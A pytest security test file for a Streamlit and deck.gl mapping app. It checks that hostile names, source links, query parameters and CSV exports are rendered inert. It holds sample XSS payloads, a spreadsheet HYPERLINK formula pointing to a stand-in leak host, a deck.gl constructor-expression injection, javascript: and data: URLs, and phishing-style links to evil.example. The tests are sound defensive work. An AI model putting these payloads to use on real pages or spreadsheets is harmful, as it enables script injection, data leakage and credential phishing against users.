"""Hostile text is rendered inert wherever it appears: deck records, tooltips, Markdown, exports.

The names below are what a stranger's upload (or a careless edit) could hold: HTML that runs a script,
a spreadsheet formula, a deck.gl JSON expression, Markdown links, and Streamlit's Markdown directives.
"""

from __future__ import annotations

import csv
import io
import json
import re
import warnings
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import pandas as pd
import pytest

from atlas import exports, layers, model, overlay
from atlas.deck import build_deck, label_layer, path_layer, place_layer
from atlas.i18n import Translator
from atlas.views import VIEW_PRESETS
from loaders import Tables, load_all
from loaders.uploads import FileUpload, check_uploads

HOSTILE_NAMES = {
    "img-onerror": "<img src=x onerror=alert(1)>",
    "script-close": "</script><script>alert(2)</script>",
    "formula": '=HYPERLINK("http://example.invalid/?leak","click me")',
    "deck-expression": "@@=constructor.constructor('alert(3)')()",
    "deck-constant": "@@#GL.ONE",
    "markdown-link": "[click](javascript:alert(4))",
    "streamlit-directives": "$x^2$ ~~gone~~ :red[red] :material/warning:",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def curated() -> Tables:
    result = load_all()
    assert result.tables is not None
    return result.tables


def with_hostile_names(tables: Tables, name: str) -> Tables:
    """Every place, service and source named `name` in every language."""
    places = tables.places.copy()
    services = tables.services.copy()
    for column in ("name_en", "name_vi", "name_zh"):
        places[column] = name
        services[column] = name
    sources = tables.sources.copy()
    for column in ("publisher", "publisher_en", "publisher_vi", "publisher_zh"):
        sources[column] = name
    for column in ("title", "title_en", "title_vi", "title_zh"):
        sources[column] = name
    return replace(tables, places=places, services=services, sources=sources)


def strings(value: Any) -> Iterator[str]:
    """Every string anywhere inside a JSON-like value."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings(item)
    elif isinstance(value, list | tuple):
        for item in value:
            yield from strings(item)


@pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_deck_data_holds_no_deck_gl_expression(curated: Tables, name: str) -> None:
    """deck.gl's JSON converter turns any string starting with '@@=' or '@@#' into code or a constant,
    even inside a layer's data: the map then fails with "Function calls not allowed in JSON
    expressions" (seen in Chromium with a place named '@@=constructor…'). Text must arrive as text."""
    tables = with_hostile_names(curated, name)
    t = Translator(tables.translations, "en")
    dots = layers.place_records(tables, "en", t)
    plan = model.plan_service(tables, "beibu_haiphong_kolkata")
    records = [
        *dots,
        *layers.label_records(dots, tables, "en"),
        *layers.zone_records(tables, "en", t),
        *layers.service_records(tables, plan, "en", t),
        *layers.corridor_records(tables, model.corridor_lines(tables), "en", t),
        *layers.air_records(tables, model.air_links(tables), "en", t),
    ]
    texts = [text for record in records for text in strings(record)]
    assert not [text for text in texts if text.startswith("@@")]
    # Made inert, not removed: the name is still there to read.
    assert any(name in text for text in texts)


@pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_uploaded_hostile_names_are_accepted_as_text_and_drawn_inert(curated: Tables, name: str) -> None:
    """HTML or a formula is legal text in a name: it is kept, and made harmless where it is shown."""
    places = _template_csv("places", name_en=name)
    result = check_uploads([FileUpload("places", "p.csv", places)], curated, geography=False)
    assert result.ok, result.problems
    merged = overlay.merge_tables(curated, result.data)
    t = Translator(merged.translations, "en")
    dots = overlay.user_place_records(merged, result.data, "en", t)
    deck = json.loads(
        build_deck(
            [
                place_layer(dots),
                path_layer("user-routes", []),
                label_layer(layers.label_records(dots, merged, "en")),
            ],
            VIEW_PRESETS["tonkin"],
        ).to_json()
    )
    texts = list(strings([layer["data"] for layer in deck["layers"]]))
    assert not [text for text in texts if text.startswith("@@")]
    assert any(name in text for text in texts)


@pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_csv_exports_defuse_formulas(curated: Tables, name: str) -> None:
    places = _template_csv("places", name_en=name, notes=f"-{name}")
    result = check_uploads([FileUpload("places", "p.csv", places)], curated, geography=False)
    exported = exports.csv_bytes(overlay.user_frames(result.data)["places"])
    row = next(csv.DictReader(io.StringIO(exported.decode("utf-8-sig"))))
    for column in ("name_en", "notes"):
        assert not row[column].startswith(FORMULA_STARTS), row[column]
        assert row[column].lstrip("'") in (name, f"-{name}")


def test_geojson_export_keeps_names_as_json_strings(curated: Tables) -> None:
    name = HOSTILE_NAMES["script-close"]
    frame = exports.places_frame(with_hostile_names(curated, name))
    document = json.loads(exports.geojson_bytes(frame, "note"))
    assert {feature["properties"]["name_en"] for feature in document["features"]} == {name}


def _template_csv(table: str, **values: str) -> bytes:
    from loaders.uploads import template_files

    text = template_files()[f"{table}.csv"].decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerow({**rows[0], **values})
    return buffer.getvalue().encode()


def _widget_app() -> None:
    """Runs inside AppTest: one shared widget over the tables in session state."""
    import streamlit as st

    from atlas.i18n import Translator
    from ui import widgets

    tables = st.session_state["tables"]
    t = Translator(tables.translations, "en")
    if st.session_state["widget"] == "sources_list":
        widgets.sources_list(tables, list(tables.sources["source_id"][:3]), t)
    elif st.session_state["widget"] == "figure_metric":
        widgets.figure_metric(tables, tables.figures["figure_id"].iloc[0], t)
    else:
        widgets.place_details(tables, st.session_state["place_id"], t)


def _run_widget(tables: Tables, widget: str, **state: object):
    from streamlit.testing.v1 import AppTest

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)
        app = AppTest.from_function(_widget_app, default_timeout=60)
        app.session_state["tables"] = tables
        app.session_state["widget"] = widget
        for key, value in state.items():
            app.session_state[key] = value
        app.run()
    assert not app.exception
    return app


def _hostile_sources(tables: Tables, titles: list[str], urls: list[str | None]) -> Tables:
    sources = tables.sources.iloc[: len(titles)].copy()
    sources["title"] = titles
    sources["url"] = pd.array(urls, dtype="string")
    return replace(tables, sources=sources)


def test_sources_list_links_only_web_addresses(curated: Tables) -> None:
    """A javascript: or data: address is shown as text, never as a link, whatever its title."""
    tables = _hostile_sources(
        curated,
        ["Harmless title", "Also harmless", "Third"],
        ["javascript:alert(1)", "data:text/html,<script>alert(2)</script>", "https://example.org/report"],
    )
    body = _run_widget(tables, "sources_list").markdown[0].value
    assert "](javascript" not in body and "](data:" not in body
    assert "](https://example.org/report)" in body


def test_sources_list_keeps_a_hostile_address_inside_its_link(curated: Tables) -> None:
    """A ')' in the address must not end the link early and start a new one."""
    url = "https://example.org/a) [evil](javascript:alert(1)"
    tables = _hostile_sources(curated, ["Title"], [url])
    body = _run_widget(tables, "sources_list").markdown[0].value
    assert "](javascript" not in body
    assert body.count("](") == 1


@pytest.mark.parametrize("title", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_sources_list_titles_are_escaped(curated: Tables, title: str) -> None:
    tables = _hostile_sources(curated, [title, "b", "c"], [None, None, None])
    body = _run_widget(tables, "sources_list").markdown[0].value
    first = body.splitlines()[0].split(" — ")[0]
    # Every Markdown or HTML special character in the title arrives backslash-escaped.
    for char in "<>[]()$~:*_`#!|":
        assert char not in first.replace("\\" + char, ""), (char, first)


@pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_place_details_show_names_as_text(curated: Tables, name: str) -> None:
    """The heading, the caption and the facts table all render Markdown: data must be escaped."""
    tables = with_hostile_names(curated, name)
    places = tables.places.copy()
    places["coord_reference"] = name
    tables = replace(tables, places=places)
    app = _run_widget(tables, "place_details", place_id="tan_vu")
    rendered = [app.subheader[0].value, app.caption[0].value, *app.table[0].value.iloc[:, 0].astype(str)]
    for text in rendered:
        for char in "<>[]$~:":
            assert char not in text.replace("\\" + char, ""), (char, text)


@pytest.mark.parametrize("text", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_figure_cards_escape_wording_and_sources(curated: Tables, text: str) -> None:
    """The card's help tooltip and caption render Markdown; the quoted wording and publishers are data."""
    figures = curated.figures.copy()
    figures["source_wording"] = text
    sources = curated.sources.copy()
    for column in ("publisher", "publisher_en", "publisher_vi", "publisher_zh"):
        sources[column] = text
    app = _run_widget(replace(curated, figures=figures, sources=sources), "figure_metric")
    escaped = re.sub(r"[!-/:-@\[-`{-~]", lambda match: "\\" + match.group(), text)
    assert escaped in app.markdown[0].proto.help
    assert escaped in app.caption[0].value


# --- link parameters and table exports ------------------------------------------------------------


def _rendered_html(markdown: str) -> str:
    """CommonMark's rendering of what the page sends; Streamlit's renderer also links bare URLs."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").render(markdown)


@pytest.mark.parametrize(
    "query",
    [
        "[Session expired - sign in again](https://evil.example/login)",
        "![x](http://evil.example/pixel.png)",
        "<https://evil.example/>",
        "https://evil.example/login",
        '<img src="http://evil.example/x.png">',
    ],
    ids=["link", "image", "autolink", "bare-url", "html-image"],
)
def test_a_cargo_link_cannot_put_a_link_or_image_in_the_page(query: str) -> None:
    from conftest import REPO_DIR
    from streamlit.testing.v1 import AppTest

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)
        app = AppTest.from_file(str(REPO_DIR / "app.py"), default_timeout=120)
        app.query_params["q"] = query
        app.switch_page("app_pages/cargo.py").run()
    assert not app.exception
    [warning] = app.warning
    html = _rendered_html(warning.value)
    assert "<a " not in html and "<img" not in html, html
    assert "://" not in warning.value, "a bare address would be linked by Streamlit's GFM renderer"
    assert "Session expired" in html or "evil" in html, "the query is still shown, as text"


def _table_app() -> None:
    """Runs inside AppTest: one table with a formula for a name, with the project's download."""
    import pandas as pd

    from ui.tables import data_table

    data_table(
        pd.DataFrame({"name": ['=HYPERLINK("http://example.invalid/?leak","click me")', "+SUM(1,2)"]}),
        "x.csv",
    )


def test_table_downloads_defuse_formulas(monkeypatch: pytest.MonkeyPatch) -> None:
    """Streamlit's own export is off (config); the project's download writes formulas as text."""
    import streamlit
    from streamlit.testing.v1 import AppTest

    sent: list[bytes] = []
    real = streamlit.download_button

    def recording(label, data, *args, **kwargs):
        sent.append(data)
        return real(label, data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", recording)
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", ResourceWarning)
        app = AppTest.from_function(_table_app, default_timeout=60).run()
    assert not app.exception
    assert [button.label for button in app.get("download_button")] == ["Download x.csv"]
    [data] = sent
    data = data() if callable(data) else data  # a deferred download: the file made when clicked
    cells = [row[0] for row in csv.reader(io.StringIO(data.decode("utf-8-sig")))][1:]
    assert cells and not any(cell.startswith(FORMULA_STARTS) for cell in cells), cells


def test_streamlits_own_table_export_is_off() -> None:
    import tomllib

    from conftest import REPO_DIR

    config = tomllib.loads((REPO_DIR / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert config["client"]["disableDataExport"] is True


def test_every_table_goes_through_data_table() -> None:
    """One place shows tables: a page calling st.dataframe itself would skip the formula-safe download."""
    from conftest import REPO_DIR

    callers = [
        path.relative_to(REPO_DIR).as_posix()
        for folder in ("app_pages", "ui", "atlas")
        for path in sorted((REPO_DIR / folder).glob("*.py"))
        if re.search(r"\bst\.(dataframe|data_editor)\(", path.read_text(encoding="utf-8"))
    ]
    assert callers == ["ui/tables.py"]
